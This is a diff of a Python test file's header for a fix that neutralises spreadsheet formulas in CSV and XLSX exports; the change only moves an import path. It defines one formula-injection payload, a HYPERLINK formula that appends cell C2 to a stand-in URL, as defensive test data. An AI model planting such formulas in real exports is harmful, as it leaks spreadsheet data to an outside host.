@@ -1,5 +1,5 @@
 """Issue 14 part 1: every export neutralises text a spreadsheet would evaluate, in one place
-(server/reports/tables.py): CSV cells get a leading apostrophe, XLSX cells are strings, never
+(server/tables.py): CSV cells get a leading apostrophe, XLSX cells are strings, never
 formulas; numbers (negative ones too) stay numbers."""
 
 import csv
@@ -8,7 +8,7 @@ import io
 from openpyxl import load_workbook
 
 from server.imports import sheets
-from server.reports.tables import to_csv, to_xlsx
+from server.tables import to_csv, to_xlsx
 from tests import factories
 
 HYPERLINK = '=HYPERLINK("http://x/?"&C2,"x")'
